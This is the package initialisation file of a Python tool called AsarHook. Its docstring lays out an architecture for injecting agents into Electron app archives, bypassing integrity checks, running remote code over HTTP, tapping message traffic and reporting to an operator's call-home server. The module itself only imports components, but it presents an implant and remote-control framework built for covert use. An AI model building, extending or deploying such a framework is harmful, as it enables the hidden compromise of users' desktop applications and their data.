"""
AsarHook - Core Module
Electron archive injection and remote control

Architecture:
┌─────────────────────────────────────────────────────────────┐
│                     ARCHIVE LAYER                            │
│   ArchiveBridge - Read/extract/pack ASAR archives           │
│   IntegrityRebinder - Keep the launcher hash in step        │
│   AgentInjector / BackupStore - Patch the entry script      │
└─────────────────────────────────────────────────────────────┘
                              ↓
┌─────────────────────────────────────────────────────────────┐
│                    TARGET AGENTS                             │
│   ControlAgent + JobStore - HTTP code execution             │
│   TrafficMonitorAgent - Message bus tap over WebSocket      │
└─────────────────────────────────────────────────────────────┘
                              ↓
┌─────────────────────────────────────────────────────────────┐
│                    OPERATOR SIDE                             │
│   AppRegistry / CallHomeServer - Who is alive, on what port │
│   RCEClient / MonitorClient - Drive a hooked target         │
└─────────────────────────────────────────────────────────────┘
"""

__version__ = "1.0.0"

from .exceptions import AsarHookError
from .asar_archive import ArchiveBridge, ArchiveHeader
from .integrity_rebinder import IntegrityRebinder, BypassResult
from .backup_store import BackupStore, BackupRecord
from .agent_injector import AgentInjector, InjectionResult
from .job_store import Job, JobStore
from .control_agent import ControlAgent, CallHomeReporter
from .callhome_registry import AppRegistry, AppRecord, CallHomeServer
from .traffic_monitor import TrafficMonitorAgent, MessageBus

__all__ = [
    "AsarHookError",
    "ArchiveBridge",
    "ArchiveHeader",
    "IntegrityRebinder",
    "BypassResult",
    "BackupStore",
    "BackupRecord",
    "AgentInjector",
    "InjectionResult",
    "Job",
    "JobStore",
    "ControlAgent",
    "CallHomeReporter",
    "AppRegistry",
    "AppRecord",
    "CallHomeServer",
    "TrafficMonitorAgent",
    "MessageBus",
]
